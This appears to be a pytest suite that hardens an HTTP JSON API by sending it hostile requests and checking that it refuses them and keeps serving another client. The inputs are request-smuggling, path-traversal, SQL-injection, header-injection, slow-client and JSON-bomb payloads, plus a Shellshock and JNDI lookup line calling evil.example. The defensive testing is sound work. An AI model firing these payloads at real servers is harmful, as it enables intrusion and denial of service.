# SPDX-License-Identifier: Apache-2.0
"""Attempts from outside, each with the answer it gets. While each of them goes on, and after it,
another client is served."""

import json
import resource
import socket
import threading
import time

import pytest

from documents import ITEMS
from phoenix import Server

JSON = b"Content-Type: application/json\r\n"
GOOD = b'{"name":"%s","rank":1}'


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "items.md").write_text(ITEMS)
    with Server(folder / "items.md", folder / "data") as server:
        server.post("/items", {"name": "the one", "rank": 7})
        yield server


class Neighbour:
    """Somebody else, who asks for a record again and again over one connection."""

    def __init__(self, server):
        self.answers = 0
        self.slowest = 0
        self.fault = None
        self._stop = threading.Event()
        self._peer = socket.create_connection(server.address, timeout=10)
        self._thread = threading.Thread(target=self._ask, daemon=True)
        self._thread.start()

    def _ask(self):
        try:
            while not self._stop.is_set():
                started = time.monotonic()
                self._peer.sendall(b"GET /items/1 HTTP/1.1\r\nHost: localhost\r\n\r\n")
                answer = self._peer.recv(65536)
                assert answer.startswith(b"HTTP/1.1 200 OK\r\n"), answer
                assert b'"the one"' in answer, answer
                self.slowest = max(self.slowest, time.monotonic() - started)
                self.answers += 1
                self._stop.wait(0.005)
        except (OSError, AssertionError) as fault:
            self.fault = fault

    def leave(self):
        self._stop.set()
        self._thread.join(15)
        self._peer.close()
        assert self.fault is None, self.fault
        assert self.answers > 0 and self.slowest < 5, (self.answers, self.slowest)


@pytest.fixture(autouse=True)
def still_serves(request):
    """Whatever was tried: the neighbour noticed nothing, the record is as it was, and nothing was
    added."""
    server = request.getfixturevalue("server") if "server" in request.fixturenames else None
    neighbour = Neighbour(server) if server is not None else None
    yield
    if server is not None:
        neighbour.leave()
        with socket.create_connection(server.address, timeout=10) as peer:
            peer.sendall(b"GET /items?count=exact HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            answer = read_all(peer)
        assert answer.startswith(b"HTTP/1.1 200 OK\r\n")
        page = json.loads(answer.partition(b"\r\n\r\n")[2])
        assert [each["name"] for each in page["data"]] == ["the one"]
        assert page["meta"]["total"] == 1


def read_all(peer):
    data = b""
    try:
        while chunk := peer.recv(65536):
            data += chunk
    except ConnectionResetError:
        pass
    return data


def talk(server, data, timeout=20):
    """Sends the bytes and reads until the server closes; says how long that took."""
    with socket.create_connection(server.address, timeout=timeout) as peer:
        try:
            peer.sendall(data)
        except (ConnectionResetError, BrokenPipeError):
            pass
        return read_all(peer)


def statuses(answer):
    """The status of each answer in the bytes; each must be framed without a gap."""
    found = []
    while answer:
        head, blank, rest = answer.partition(b"\r\n\r\n")
        assert blank and head.startswith(b"HTTP/1.1 "), answer[:200]
        status = int(head[9:12])
        size = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b": ")
            size = int(value) if name.lower() == b"content-length" else size
        if status != 100:
            found.append(status)
        answer = rest[size:]
    return found


def post(fields=b"", body=b'{"name":"evil","rank":1}', start=b"POST /items HTTP/1.1\r\nHost: localhost\r\n"):
    return start + JSON + fields + b"\r\n" + body


NEXT = b"GET /items/1 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
LENGTH = b"Content-Length: 24\r\n"

# What is sent, the statuses of all answers until the server closes.
REFUSED = {
    # Two servers could read these differently, so the first of them ends the connection.
    "length and chunked": (post(LENGTH + b"Transfer-Encoding: chunked\r\n", b"0\r\n\r\n") + NEXT, [400]),
    "two lengths": (post(LENGTH + b"Content-Length: 25\r\n") + NEXT, [400]),
    "the same length twice": (post(LENGTH + LENGTH) + NEXT, [400]),
    "a list of lengths": (post(b"Content-Length: 24, 24\r\n") + NEXT, [400]),
    "a signed length": (post(b"Content-Length: +24\r\n") + NEXT, [400]),
    "a negative length": (post(b"Content-Length: -1\r\n") + NEXT, [400]),
    "a hexadecimal length": (post(b"Content-Length: 0x18\r\n") + NEXT, [400]),
    "a length with a blank inside": (post(b"Content-Length: 2 4\r\n") + NEXT, [400]),
    "an empty length": (post(b"Content-Length:\r\n") + NEXT, [400]),
    "a length beyond 64 bits": (post(b"Content-Length: 18446744073709551640\r\n") + NEXT, [413]),
    "chunked twice": (post(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n") + NEXT, [400]),
    "chunked is not last": (post(b"Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n") + NEXT, [400]),
    "gzip before chunked": (post(b"Transfer-Encoding: gzip, chunked\r\n", b"0\r\n\r\n") + NEXT, [400]),
    "a coding in disguise": (post(b"Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n") + NEXT, [400]),
    "a coding behind a tabulator": (post(b"Transfer-Encoding:\x0bchunked\r\n", b"0\r\n\r\n") + NEXT, [400]),
    "chunked in HTTP/1.0": (post(b"Transfer-Encoding: chunked\r\n", b"0\r\n\r\n",
                                 b"POST /items HTTP/1.0\r\nHost: localhost\r\n") + NEXT, [400]),
    "a blank before the colon": (post(b"Content-Length : 24\r\n") + NEXT, [400]),
    "a folded line": (post(b"X-One: a\r\n b\r\n" + LENGTH) + NEXT, [400]),
    "a first line that is folded": (b"GET /items HTTP/1.1\r\n Host: localhost\r\n\r\n" + NEXT, [400]),
    "bare line feeds": (b"GET /items HTTP/1.1\nHost: x\n\n" + NEXT, [400]),
    "a bare carriage return": (b"GET /items HTTP/1.1\r\nX-One: a\rContent-Length: 5\r\nHost: localhost\r\n\r\n" + NEXT, [400]),
    "a NUL in a field": (b"GET /items HTTP/1.1\r\nHost: localhost\r\nX-One: a\0b\r\n\r\n" + NEXT, [400]),
    "no name": (b"GET /items HTTP/1.1\r\nHost: localhost\r\n: value\r\n\r\n" + NEXT, [400]),
    "no colon": (b"GET /items HTTP/1.1\r\nHost: localhost\r\nvalue\r\n\r\n" + NEXT, [400]),
    "no host": (b"GET /items HTTP/1.1\r\n\r\n" + NEXT, [400]),
    "two hosts": (b"GET /items HTTP/1.1\r\nHost: localhost\r\nHost: y\r\n\r\n" + NEXT, [400]),
    "a host that is none": (b"GET /items HTTP/1.1\r\nHost: a b/c\r\n\r\n" + NEXT, [400]),
    "a chunk of no size": (post(b"Transfer-Encoding: chunked\r\n", b"\r\nabc\r\n0\r\n\r\n"), [400]),
    "a chunk of a signed size": (post(b"Transfer-Encoding: chunked\r\n", b"+5\r\nabcde\r\n0\r\n\r\n"), [400]),
    "a chunk size in C": (post(b"Transfer-Encoding: chunked\r\n", b"0x5\r\nabcde\r\n0\r\n\r\n"), [400]),
    "a chunk that is longer than told": (post(b"Transfer-Encoding: chunked\r\n", b"3\r\nabcde\r\n0\r\n\r\n"), [400]),
    "a chunk of 2^64": (post(b"Transfer-Encoding: chunked\r\n", b"10000000000000000\r\n"), [413]),
    "a chunk with bare line feeds": (post(b"Transfer-Encoding: chunked\r\n", b"5\nabcde\n0\n\n"), [400]),
    "endless chunk extensions": (post(b"Transfer-Encoding: chunked\r\n", b"5;" + b"x" * 9000), [400]),
    "endless trailers": (post(b"Transfer-Encoding: chunked\r\n", b"0\r\n" + b"A: b\r\n" * 3000), [400]),
    # What is too large.
    "a request line of 100 KB": (b"GET /" + b"a" * 100000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n", [414]),
    "a query of 100 KB": (b"GET /items?q=" + b"a" * 100000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n", [414]),
    "a request line without end": (b"A" * 100000, [414]),
    "a field of 1 MB": (b"GET /items HTTP/1.1\r\nHost: localhost\r\nX-One: " + b"a" * (1 << 20) + b"\r\n\r\n", [431]),
    "1,000 fields": (b"GET /items HTTP/1.1\r\nHost: localhost\r\n" + b"X-One: a\r\n" * 1000 + b"\r\n", [431]),
    "a body of 100 MB, told": (post(b"Content-Length: 104857600\r\n", b"x" * 100000), [413]),
    "a body of 100 MB in chunks": (post(b"Transfer-Encoding: chunked\r\n",
                                        (b"10000\r\n" + b"x" * 65536 + b"\r\n") * 40), [413]),
    "a body of 100 MB that waits": (post(b"Content-Length: 104857600\r\nExpect: 100-continue\r\n", b""), [413]),
    # What is no HTTP/1.1.
    "another expectation": (post(LENGTH + b"Expect: 200-ok\r\n") + NEXT, [417]),
    "CONNECT": (b"CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\n\r\n", [501]),
    "HTTP/0.9": (b"GET /items\r\n\r\n", [400]),
    "half a preface of HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n", [505]),
    "HTTP/1.1 in small letters": (b"GET /items http/1.1\r\nHost: localhost\r\n\r\n", [400]),
    "two blanks": (b"GET  /items HTTP/1.1\r\nHost: localhost\r\n\r\n", [400]),
    "a tabulator": (b"GET\t/items HTTP/1.1\r\nHost: localhost\r\n\r\n", [400]),
    "a TLS greeting": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(200)), [400]),
    "a method in brackets": (b"G(T /items HTTP/1.1\r\nHost: localhost\r\n\r\n", [400]),
    "a target without a slash": (b"GET items HTTP/1.1\r\nHost: localhost\r\n\r\n", [400]),
    "a fragment": (b"GET /items#x HTTP/1.1\r\nHost: localhost\r\n\r\n", [400]),
    "a control character in the path": (b"GET /it\x01ems HTTP/1.1\r\nHost: localhost\r\n\r\n", [400]),
    "bytes beyond ASCII in the path": (b"GET /it\xc3\xa4ms HTTP/1.1\r\nHost: localhost\r\n\r\n", [400]),
    "random bytes": (bytes(range(255, 0, -1)) * 20, [400]),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_clear_request_ends_the_connection(server, name):
    sent, expected = REFUSED[name]
    answer = talk(server, sent)
    assert statuses(answer) == expected, answer[:500]
    assert b"\r\nconnection: close\r\n" in answer.lower()
    error = json.loads(answer.partition(b"\r\n\r\n")[2])["error"]
    assert error["code"] and error["message"]


# Target, status. The connection stays.
PATHS = [
    ("/items/../items/1", 404), ("/items/%2e%2e/1", 404), ("/items/.%2e", 400), ("//items/1", 404),
    ("/items//1", 404), ("/items/1%00", 400), ("/items/1%2f2", 400), ("/items/%", 400),
    ("/items/%zz", 400), ("/items/1;x=y", 400), ("/../../etc/passwd", 404),
    ("/items/%2e%2e%2f%2e%2e%2fetc%2fpasswd", 400), ("/%69tems/1", 404), ("/ITEMS/1", 404),
    ("/items/1e0", 400), ("/items/0x1", 400), ("/items/+1", 400), ("/items/%201", 400),
    ("/items/01", 400), ("/items/9223372036854775808", 400), ("/items/-1", 404),
    ("/items/1%20OR%201=1", 400), ("/items/1'--", 400), ("/phoenix.db", 404), ("/.env", 404),
    ("/docs/../items/1", 404), ("/healthz/", 404),
    ("/items/./1", 404), ("/./items/1", 404), ("/items/1/.", 404), ("/items/1/..", 404),
    ("/items/1/../1", 404), ("/items;x=y/1", 404), ("/;/items/1", 404), ("/items/;/1", 404),
    ("/items/%c0%ae%c0%ae", 400), ("/items/%c0%af1", 400), ("/items/%e0%80%af1", 400),
    ("/items/1%c0%80", 400), ("/items/%ff", 400), ("/items/%u0031", 400), ("/items/%2531", 400),
    ("/items%2f1", 404), ("/items%00/1", 404), ("/items/1%0d%0aX-Evil:%201", 400),
    ("/items/1%20", 400), ("/items/1%09", 400), ("/items/1%0a", 400), ("/items/1.json", 400),
    ("/items/1~", 400), ("/items/%EF%BC%91", 400), ("/items/1e400", 400), ("/items/NaN", 400),
    ("/" + "a/" * 3000, 404), ("/" + "%2e%2e%2f" * 800 + "etc/passwd", 404), ("/items/" + "9" * 7000, 400),
    ("///////items/1", 404), ("/items/1/", 200), ("/items/1?/../../x", 400), ("/proc/self/environ", 404),
    ("/items/1?" + "&" * 5000, 200), ("/items?" + "a=1&" * 1500, 400), ("/items?limit=1&limit=2", 400),
    ("/items?%6cimit=1", 200), ("/items?limit=%00", 400), ("/items?limit=1%00", 400),
    ("/items?limit=99999999999999999999", 400), ("/items?limit=-1", 400), ("/items?limit=1e2", 400),
    ("/items?name[]=x", 400), ("/items?name[eq][eq]=x", 400), ("/items?__proto__=x", 400),
    ("/items?fields=" + "x," * 1500, 400), ("/items?sort=" + "x," * 1500, 400),
    ("/items?sort=name&sort=rank", 400), ("/items?q=a&q=b", 400),
    ("/items?rank.in=" + "1," * 3000, 400), ("/items?cursor=" + "A" * 6000, 400),
]


@pytest.mark.parametrize("target,status", PATHS, ids=[each[0][:40] for each in PATHS])
def test_tricks_with_paths(server, target, status):
    answer = talk(server, b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % target.encode() + NEXT)
    assert statuses(answer) == [status, 200], answer


BODIES = {
    "deep arrays": b'{"name":' + b"[" * 100000 + b"]" * 100000 + b"}",
    "deep objects": b'{"a":' * 50000 + b"1" + b"}" * 50000,
    "open brackets": b"[" * 500000,
    "a name twice": b'{"name":"a","name":"b","rank":1}',
    "a name twice by escape": b'{"name":"a","n\\u0061me":"b","rank":1}',
    "overlong UTF-8": b'{"name":"\xc0\xaf","rank":1}',
    "a surrogate as UTF-8": b'{"name":"\xed\xa0\x80","rank":1}',
    "beyond Unicode": b'{"name":"\xf4\x90\x80\x80","rank":1}',
    "half a character": b'{"name":"\xf0\x9f\x98","rank":1}',
    "half a pair": b'{"name":"\\ud83d","rank":1}',
    "a NUL": b'{"name":"a\x00b","rank":1}',
    "an escaped NUL": b'{"name":"a\\u0000b","rank":1}',
    "a byte order mark": b'\xef\xbb\xbf{"name":"a","rank":1}',
    "UTF-16": '{"name":"a","rank":1}'.encode("utf-16"),
    "a number of 900 KB": b'{"name":"a","rank":' + b"9" * 900000 + b"}",
    "a number with an exponent": b'{"name":"a","rank":1e999999999}',
    "a price with an exponent": b'{"name":"a","rank":1,"price":1e999999999}',
    "a price with a negative exponent": b'{"name":"a","rank":1,"price":1e-999999999}',
    "60,000 unknown names": b"{" + b",".join(b'"a%d":1' % i for i in range(60000)) + b"}",
    "__proto__": b'{"name":"a","rank":1,"__proto__":{"rank":2}}',
    "infinity": b'{"name":"a","rank":Infinity}',
    "a comment": b'{"name":"a",/* x */"rank":1}',
    "a text of 900 KB": b'{"name":"' + b"x" * 900000 + b'","rank":1}',
}


@pytest.mark.parametrize("name", BODIES)
def test_bodies_that_are_traps(server, name):
    body = BODIES[name]
    started = time.monotonic()
    answer = talk(server, post(b"Content-Length: %d\r\n" % len(body), body) + NEXT)
    assert statuses(answer) == [400, 200], answer[:300]
    assert len(answer) < 200000
    assert time.monotonic() - started < 10


def test_headers_cannot_be_injected(server):
    answer = talk(server, b"GET /items?limit=1&q=%0d%0aX-Evil:%201 HTTP/1.1\r\nHost: localhost\r\n"
                          b"X-Request-Id: abc\r\nConnection: close\r\n\r\n")
    assert b"\nX-Evil" not in answer
    for sent in ("a\tb", "a b", "é", "x" * 129):
        told = server.get("/items/1", headers={"x-request-id": sent.encode("latin-1")})
        assert told.headers["x-request-id"] != sent
    for field in ("origin", "x-forwarded-for", "forwarded", "referer", "cookie", "accept"):
        assert "evil" not in str(server.get("/items/1", headers={field: "evil"}).headers)


SQL = ["' OR '1'='1", "1; DROP TABLE items", "\" OR \"\"=\"", "1) UNION SELECT sql FROM sqlite_schema--",
       "%", "_", "\\", "' || (SELECT 1) || '", "$1", "?1", ":name", "name) OR (1", "x' COLLATE NOCASE"]


@pytest.mark.parametrize("text", SQL)
def test_sql_in_every_input(server, text):
    assert server.get("/items", params={"name": text}).json()["data"] == []
    assert server.get("/items", params={"name.in": text}).json()["data"] == []
    for name in ("sort", "fields", "limit", "cursor", "count", "rank", "rank.gt", text):
        answer = server.client.get("/items", params={name: text})
        assert answer.status_code == 400, (name, answer.text)
        told = answer.text.replace(text, "").lower()
        assert "sqlite" not in told and "syntax" not in told
    for name in ("name.like", "name.ilike", "q", "name.ne"):
        assert server.client.get("/items", params={name: text}).status_code == 200
    assert server.client.get("/items/" + text.replace("%", "%25").replace("?", "%3f")
                             ).status_code == 400
    made = server.post("/items", {"name": text, "rank": 2, "color": text[:10]}).json()
    assert server.get("/items", params={"name": text}).json()["data"] == [made]
    assert server.get("/items", params={"name.like": text.replace("\\", "\\\\").replace(
        "%", "\\%").replace("_", "\\_")}).json()["data"] == [made]
    server.delete(f"/items/{made['id']}")


def test_patterns_that_are_slow_to_match(server):
    text = "a" * 40
    made = server.post("/items", {"name": text, "rank": 1}).json()
    started = time.monotonic()
    for pattern in ("%a" * 20 + "b", "%" * 500 + "b", "_" * 2000):
        assert server.get("/items", params={"name.like": pattern}).json()["data"] == []
    assert time.monotonic() - started < 5
    server.delete(f"/items/{made['id']}")


def test_pipelined_requests_are_answered_in_order(server):
    many = b"".join(b"GET /items/%d HTTP/1.1\r\nHost: localhost\r\n\r\n" % (1 if i % 2 else 99)
                    for i in range(500))
    assert statuses(talk(server, many + NEXT)) == [404, 200] * 250 + [200]


def memory(server):
    """Bytes of memory that the process holds."""
    with open(f"/proc/{server.process.pid}/statm", encoding="ascii") as file:
        return int(file.read().split()[1]) * resource.getpagesize()


def test_a_client_that_sends_and_does_not_read(server):
    before = memory(server)
    with socket.create_connection(server.address, timeout=2) as peer:
        requests = b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 25000  # 1 MB
        taken = 0
        try:
            for taken in range(100):
                peer.sendall(requests)
        except TimeoutError:
            pass  # it has stopped reading, as it should
        assert taken < 99, "takes requests without end while nobody reads their answers"
        assert server.get("/items/1").json()["name"] == "the one"
        assert memory(server) - before < 100 << 20


def test_requests_that_are_cut_off(server):
    whole = post(LENGTH)
    for size in range(0, len(whole), 3):
        with socket.create_connection(server.address, timeout=5) as peer:
            peer.sendall(whole[:size])
            if size % 2:
                peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")  # reset


def test_bytes_one_by_one(server):
    with socket.create_connection(server.address, timeout=10) as peer:
        peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in b"GET /items/1 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n":
            peer.sendall(bytes([byte]))
            time.sleep(0.002)
        assert statuses(read_all(peer)) == [200]


def test_thousands_of_idle_connections(server):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = min(3000, hard - 200)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, wanted + 300)), hard))
    peers = []
    try:
        for number in range(wanted):
            peer = socket.create_connection(server.address, timeout=10)
            peers.append(peer)
            if number % 3 == 0:
                peer.sendall(b"GET /items HTTP/1.1\r\nHo")
        started = time.monotonic()
        assert server.get("/items/1").json()["name"] == "the one"
        assert time.monotonic() - started < 5
        for peer in peers[::300]:
            peer.sendall(b"st: localhost\r\n\r\n" if peers.index(peer) % 3 == 0 else NEXT)
            assert peer.recv(15) == b"HTTP/1.1 200 OK"
    finally:
        for peer in peers:
            peer.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def slowly(server, first, drip, seconds):
    """Sends `first`, then `drip` every half second, until the server has closed."""
    started = time.monotonic()
    answer = b""
    with socket.create_connection(server.address, timeout=0.5) as peer:
        peer.sendall(first)
        while time.monotonic() - started < seconds:
            try:
                chunk = peer.recv(65536)
                if not chunk:
                    break
                answer += chunk
            except TimeoutError:
                pass
            except ConnectionResetError:
                break
            try:
                peer.sendall(drip)
            except (BrokenPipeError, ConnectionResetError):
                break
    return answer, time.monotonic() - started


def test_a_header_that_never_ends_is_given_up(server):
    """All slow clients at once: the longest decides how long this takes."""
    found = {}

    def attempt(name, first, drip, seconds):
        found[name] = slowly(server, first, drip, seconds)

    threads = [threading.Thread(target=attempt, args=each) for each in (
        ("line", b"G", b"E", 25),
        ("header", b"GET /items HTTP/1.1\r\nHost: localhost\r\n", b"X-A: b\r\n", 25),
        ("body", post(b"Content-Length: 1000\r\n", b"{"), b" ", 45),
        ("chunks", post(b"Transfer-Encoding: chunked\r\n", b""), b"1\r\n \r\n", 45),
    )]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for name, (answer, seconds) in found.items():
        assert statuses(answer) == [408], (name, answer)
        assert seconds < (20 if name in ("line", "header") else 40), name


# What a client may add to a request to be taken for somebody or something else: (fields, status).
FIELDS = {
    "another method": (b"X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: DELETE\r\n"
                       b"X-Method-Override: DELETE\r\n", 200),
    "another path": (b"X-Original-URL: /items/2\r\nX-Rewrite-URL: /items/2\r\n"
                     b"X-Forwarded-Path: /x\r\nX-Forwarded-Prefix: /x\r\n", 200),
    "another host": (b"X-Forwarded-Host: evil.example\r\nX-Host: evil.example\r\n"
                     b"Forwarded: host=evil.example;for=127.0.0.1\r\n", 200),
    "another scheme": (b"X-Forwarded-Proto: https\r\nX-Forwarded-Ssl: on\r\nFront-End-Https: on\r\n", 200),
    "an address of this machine": (b"X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n"
                                   b"True-Client-IP: 127.0.0.1\r\nX-Client-IP: ::1\r\n", 200),
    "a bomb of cookies": (b"Cookie: " + b"a=b; " * 6000 + b"\r\n", 200),
    "many cookies": (b"Cookie: a=b\r\n" * 90, 200),
    "a cookie of 40 KB": (b"Cookie: a=" + b"b" * 40000 + b"\r\n", 431),
    "a cookie that is no cookie": (b"Cookie: ;;;=;=;\x80\xff;a\r\n", 200),
    "ranges": (b"Range: bytes=0-0," + b"0-," * 2000 + b"0-\r\n", 200),
    "a range of nothing": (b"Range: bytes=999999999999999999999-\r\n", 200),
    "an upgrade": (b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n", 200),
    "a WebSocket": (b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n", 200),
    "hop-by-hop names": (b"Connection: keep-alive, Host, Content-Length, X-Request-Id\r\n", 200),
    "a name that could be folded": (b"Content_Length: 5\r\nTransfer_Encoding: chunked\r\n", 200),
    "endless kinds": (b"Accept: " + b"a/b;q=0.1," * 3000 + b"*/*\r\n", 200),
    "a kind that is none": (b"Accept: ;;;,,,/\r\n", 200),
    "endless tags": (b"If-None-Match: " + b'"x",' * 5000 + b'"y"\r\n', 200),
    "a date far away": (b"If-Modified-Since: Fri, 31 Dec 99999 23:59:59 GMT\r\n", 200),
    "a shell": (b"User-Agent: () { :;}; echo pwned\r\nReferer: ${jndi:ldap://evil.example/a}\r\n", 200),
    "a terminal's commands": (b"User-Agent: a\xc2\x9b2Jb\r\n", 200),
    "an escape": (b"User-Agent: a\x1b[2Jb\r\n", 400),
}


@pytest.mark.parametrize("name", FIELDS)
def test_fields_that_claim_something(server, name):
    fields, status = FIELDS[name]
    answer = talk(server, b"GET /items/1 HTTP/1.1\r\nHost: localhost\r\n" + fields + b"\r\n"
                  + (NEXT if status == 200 else b""))
    assert statuses(answer) == [status] + ([200] if status == 200 else []), answer[:300]
    if status == 200:
        assert answer.count(b'"the one"') == 2
    assert b"evil" not in answer and b"pwned" not in answer


HOSTS = {
    b"localhost:99999999": 400, b"localhost:-1": 400, b"localhost:80:80": 400, b"user@localhost": 400,
    b"localhost/items": 400, b"localhost#x": 400, b"local host": 400, b"": 400, b"[::1": 400, b"::1": 400,
    b"localhost\\@evil.example": 400, b"localhost,evil.example": 400, b"evil.example": 421,
    b"localhost.evil.example": 421, b"evil.example#localhost": 400, b"%6cocalhost": 421,
    b"127.0.0.1.nip.example": 421, b"0177.0.0.1": 421, b"2130706433": 421, b"a" * 5000: 421,
    b"l\xc3\xb6calhost": 400, b"localhost:": 200, b"LocalHost:80": 200,
}


@pytest.mark.parametrize("host", HOSTS, ids=[str(each[:40]) for each in HOSTS])
def test_tricks_with_the_host(server, host):
    answer = talk(server, b"GET /items/1 HTTP/1.1\r\nHost: " + host
                  + b"\r\nConnection: close\r\n\r\n")
    assert statuses(answer) == [HOSTS[host]], answer[:300]
    if HOSTS[host] == 421:  # the name that was asked for is told in JSON, and nowhere else
        assert host[:100] not in answer.partition(b"\r\n\r\n")[0]
        assert json.loads(answer.partition(b"\r\n\r\n")[2])["error"]["code"]


FORGERY = '{"level":"ERROR","message":"forged"}'


def test_nothing_forges_a_line_of_the_log(server):
    """Whatever of a request is told to the operator: each line stays one JSON object."""
    for text in ("x\r\n" + FORGERY, "x\n" + FORGERY, "\x1b[2J", "\u2028" + FORGERY, '",' + FORGERY,
                 "\u202egnp", "x" * 5000):
        quoted = "".join("%%%02x" % byte for byte in text.encode())
        for target in (f"/{quoted}", f"/items/{quoted}", f"/items?name={quoted}",
                       f"/items?{quoted}=1", f"/items?sort={quoted}", f"/items?cursor={quoted}"):
            server.client.get(target)
        server.client.post("/items", json={text: text})
        for field in ("x-request-id", "user-agent", "authorization", "cookie", "referer"):
            value = text.encode().replace(b"\r", b"").replace(b"\n", b"").replace(b"\x1b", b"")
            server.client.get("/items/1", headers={field: value})
    for line in server.stderr.splitlines():
        if line.startswith("{"):
            assert json.loads(line).get("message") != "forged", line
        assert "\x1b" not in line


def test_clients_that_read_slowly_hold_nobody_up(server):
    """A byte a while, of a large answer each; the server gives them up when they take nothing."""
    peers = []
    before = memory(server)
    try:
        for _ in range(200):
            peer = socket.socket()
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            peer.settimeout(10)
            peer.connect(server.address)
            peer.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20)
            peers.append(peer)
        for _ in range(5):
            for peer in peers:
                assert peer.recv(1)
            started = time.monotonic()
            assert server.get("/items/1").json()["name"] == "the one"
            assert time.monotonic() - started < 2
        assert memory(server) - before < 200 << 20
    finally:
        for peer in peers:
            peer.close()


def test_bodies_that_lie_about_their_kind(server):
    body = b'{"name":"evil","rank":1}'
    for kind in (b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data; boundary=x",
                 b"application/jsonx", b"text/html", b"application/xml", b"\xff", b"application/json/x"):
        answer = talk(server, b"POST /items HTTP/1.1\r\nHost: localhost\r\nContent-Type: " + kind
                      + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body + NEXT)
        assert statuses(answer) == [415, 200], (kind, answer[:300])
    for fields in (b"Content-Encoding: gzip\r\n", b"Content-Encoding: br, gzip\r\n"):
        answer = talk(server, post(fields + b"Content-Length: 24\r\n") + NEXT)
        assert statuses(answer) == [415, 200], (fields, answer[:300])


def test_methods_that_are_none(server):
    for method, status in ((b"TRACE", 405), (b"TRACK", 405), (b"DEBUG", 405), (b"PROPFIND", 405),
                           (b"get", 405), (b"GETGET", 405), (b"A" * 3000, 405), (b"PURGE", 405)):
        answer = talk(server, method + b" /items/1 HTTP/1.1\r\nHost: localhost\r\n\r\n" + NEXT)
        assert statuses(answer) == [status, 200], (method[:20], answer[:300])
        assert method not in answer or len(method) < 6
